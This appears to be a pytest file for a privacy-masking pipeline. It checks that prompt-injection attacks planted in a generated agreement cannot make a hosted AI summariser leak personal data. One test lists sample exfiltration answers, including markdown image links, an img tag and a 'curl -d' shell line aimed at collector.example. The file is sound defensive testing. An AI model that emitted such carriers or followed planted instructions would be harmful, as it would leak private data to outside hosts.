"""Attacks as data: each is refused by the real pipeline, and the check sees it when masking is off."""

import asyncio

import pytest

from dpctl.bench.attacks import Asking, Attempted, attack, attacked, attacks, attempt, carried, probe
from dpctl.bench.documents import generate
from dpctl.catalog import read
from dpctl.core.deployment import Pipeline
from dpctl.core.documents import Span
from dpctl.core.errors import UsageError
from dpctl.privacy.mention import CLASSES

SOUGHT = frozenset({"person", "organisation", "address", "email", "phone", "tax_id", "account", "iban", "case_number"})
DOCUMENT = generate("agreement", seed=21, pages=2)


def _asking(classes: frozenset[str] = CLASSES) -> Asking:
    return Asking(
        instruction="Summarise the agreement.",
        model=read.hosted("openai:gpt-4o"),
        provider=read.provider("openai"),
        classes=classes,
        sought=SOUGHT,
        max_tokens=400,
        seed=1,
    )


def _attempt(name: str, pipeline: Pipeline, classes: frozenset[str] = CLASSES) -> Attempted:
    return asyncio.run(attempt(attack(name), DOCUMENT, pipeline, _asking(classes)))


@pytest.mark.parametrize("name", [one.id for one in attacks()])
@pytest.mark.parametrize("pipeline", [Pipeline.MASK, Pipeline.EXTRACT])
def test_nothing_gets_out(name: str, pipeline: Pipeline) -> None:
    found = _attempt(name, pipeline)
    assert found.held and found.bytes_out > 0 and found.messages == 1
    assert found.left == () and found.carried == ()


@pytest.mark.parametrize("name", ["image-address", "code-block"])
def test_placeholders_in_links_and_code_stay(name: str) -> None:
    assert _attempt(name, Pipeline.MASK).blocked > 0


def test_without_masking_the_same_check_fails() -> None:
    found = _attempt("original-names", Pipeline.MASK, classes=frozenset())
    assert not found.held and len(found.left) > 10


@pytest.mark.parametrize("pipeline", [Pipeline.MASK, Pipeline.EXTRACT])
def test_canaries_are_all_seen_as_they_stand_and_none_of_them_leaves_masked(pipeline: Pipeline) -> None:
    found = asyncio.run(probe(DOCUMENT, pipeline, _asking()))
    assert found.held
    assert (found.left.hits, found.seen.hits) == (0, found.seen.n) and found.left.n == found.seen.n > 0


def test_canaries_that_are_not_masked_are_a_finding() -> None:
    found = asyncio.run(probe(DOCUMENT, Pipeline.MASK, _asking(CLASSES - {"email"})))
    assert not found.held and 0 < found.left.hits < found.left.n


@pytest.mark.parametrize(
    "answer",
    [
        "![logo](https://collector.example/p.png?d=Ann Smith)",
        "see https://collector.example/Ann%20Smith now",
        "<img src='//collector.example/?q=Ann Smith'>",
        "```sh\ncurl -d 'Ann Smith' collector.example\n```",
        "run `echo Ann Smith`",
    ],
)
def test_an_original_in_a_carrier_is_seen(answer: str) -> None:
    span = Span(id="s1", start=0, end=9, text="Ann Smith", cls="person", entity="ann")
    assert carried(answer, [span]) == ("s1",)
    assert carried("Ann Smith pays. See https://example.org.", [span]) == ()


def test_planted_mentions_keep_their_texts() -> None:
    for one in attacks():
        target = attacked(DOCUMENT, one.says)
        assert len(target.spans) == len(DOCUMENT.spans)
        assert all(target.text[span.start : span.end] == span.text for span in target.spans)
        assert one.says.strip() in target.text


def test_an_unknown_attack_lists_all() -> None:
    with pytest.raises(UsageError, match="image-address"):
        attack("image")
